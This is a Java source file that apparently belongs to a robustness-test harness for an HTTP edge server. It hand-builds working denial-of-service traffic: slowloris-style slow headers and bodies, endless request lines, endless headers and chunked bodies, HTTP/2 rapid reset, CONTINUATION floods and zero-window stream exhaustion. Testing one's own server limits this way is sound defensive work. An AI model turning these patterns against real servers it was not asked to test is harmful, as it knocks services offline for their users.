package io.weft.lab.edge;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.function.IntFunction;
import java.util.function.Supplier;

/**
 * One way to harm an HTTP port, done on many connections at a time.
 *
 * @param name what it is
 * @param connections on how many connections
 * @param reads whether answers are read
 * @param ends whether the node is to close each connection, or may let it be
 * @param first what each sends first
 * @param again what it sends then, again and again, by how often it has
 * @param pace the time between two of those
 */
record Attack(
    String name,
    int connections,
    boolean reads,
    boolean ends,
    Supplier<byte[]> first,
    IntFunction<byte[]> again,
    Duration pace) {
  private static final String LARGE = "/docs/swagger-ui-bundle.js";
  private static final String GET_LARGE = "GET " + LARGE + " HTTP/1.1\r\nHost: a\r\n\r\n";

  private static final int SETTINGS = 4;
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int CONTINUATION = 9;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;
  private static final int INITIAL_WINDOW_SIZE = 4;
  private static final int STREAMS_OPEN_MAX = 100;
  private static final byte[] NOTHING = new byte[0];

  /**
   * Returns those over HTTP/1.1.
   *
   * @param token of an operator: a stranger's bodies are refused unread
   */
  static List<Attack> overHttp1(String token) {
    var post =
        "POST /v1/orders HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
            + "Idempotency-Key: k-1\r\nAuthorization: Bearer "
            + token
            + "\r\n";
    var line = "X-A: " + "a".repeat(EdgeLimits.PIECE_BYTES) + "\r\n";
    var piece = "400\r\n" + "a".repeat(EdgeLimits.PIECE_BYTES) + "\r\n";
    return List.of(
        new Attack(
            "slow headers",
            400,
            true,
            true,
            () -> ascii("GET / HTTP/1.1\r\n"),
            drip("X: y\r\n"),
            EdgeLimits.DRIP),
        new Attack(
            "slow body",
            400,
            true,
            true,
            () -> ascii(post + "Content-Length: 100000\r\n\r\n{"),
            drip(" "),
            EdgeLimits.DRIP),
        new Attack(
            "10 KiB of headers, then silence",
            400,
            true,
            true,
            () -> ascii("GET / HTTP/1.1\r\nX: " + "a".repeat(EdgeLimits.SILENT_BYTES)),
            count -> NOTHING,
            EdgeLimits.DRIP),
        new Attack(
            "10 KiB of a body, then silence",
            400,
            true,
            true,
            () ->
                ascii(post + "Content-Length: 20000\r\n\r\n" + "a".repeat(EdgeLimits.SILENT_BYTES)),
            count -> NOTHING,
            EdgeLimits.DRIP),
        new Attack(
            "endless first line",
            100,
            true,
            true,
            () -> ascii("GET /"),
            drip("a".repeat(1_024)),
            Duration.ZERO),
        new Attack(
            "endless headers",
            100,
            true,
            true,
            () -> ascii("GET / HTTP/1.1\r\n"),
            drip(line),
            Duration.ZERO),
        new Attack(
            "endless body",
            50,
            true,
            true,
            () -> ascii(post + "Transfer-Encoding: chunked\r\n\r\n"),
            drip(piece),
            Duration.ZERO),
        new Attack(
            "pipelined, unread",
            50,
            false,
            false,
            () -> NOTHING,
            drip(GET_LARGE),
            Duration.ofMillis(10)));
  }

  /** Returns those over HTTP/2. */
  static List<Attack> overHttp2() {
    return List.of(
        new Attack(
            "h2 rapid reset",
            20,
            true,
            true,
            () -> opening(NOTHING),
            Attack::resetStream,
            Duration.ZERO),
        new Attack(
            "h2 endless CONTINUATION",
            20,
            true,
            true,
            () -> opening(frame(HEADERS, END_STREAM, 1, get("/"))),
            count -> frame(CONTINUATION, 0, 1, headers()),
            Duration.ZERO),
        new Attack(
            "h2 window of 0, unread",
            20,
            false,
            false,
            () -> opening(NOTHING),
            Attack::largeStream,
            Duration.ofMillis(10)));
  }

  private static IntFunction<byte[]> drip(String text) {
    var bytes = ascii(text);
    return count -> bytes;
  }

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.US_ASCII);
  }

  /** The preface of HTTP/2 with a window of 0 for every stream, and what follows. */
  private static byte[] opening(byte[] more) {
    var window = ByteBuffer.allocate(6).putShort((short) INITIAL_WINDOW_SIZE).putInt(0).array();
    return join(ascii("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0, window), more);
  }

  private static byte[] resetStream(int count) {
    int stream = 2 * count + 1;
    var cancel = ByteBuffer.allocate(4).putInt(8).array();
    return join(
        frame(HEADERS, END_STREAM | END_HEADERS, stream, get("/health/live")),
        frame(RST_STREAM, 0, stream, cancel));
  }

  private static byte[] largeStream(int count) {
    return count >= STREAMS_OPEN_MAX
        ? NOTHING
        : frame(HEADERS, END_STREAM | END_HEADERS, 2 * count + 1, get(LARGE));
  }

  /** The header block of a GET, by the static table of RFC 7541. */
  private static byte[] get(String path) {
    return join(
        new byte[] {(byte) 0x82, (byte) 0x86, 0x04, (byte) path.length()},
        ascii(path),
        new byte[] {0x01, 1, 'a'});
  }

  /** Literal header fields that the table does not keep. */
  private static byte[] headers() {
    var one = join(new byte[] {0x00, 3}, ascii("x-a"), new byte[] {100}, ascii("a".repeat(100)));
    return join(one, one, one, one, one, one, one, one);
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) (payload.length >> 16))
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  private static byte[] join(byte[]... parts) {
    var all = new ByteArrayOutputStream();
    for (var part : parts) {
      all.writeBytes(part);
    }
    return all.toByteArray();
  }
}
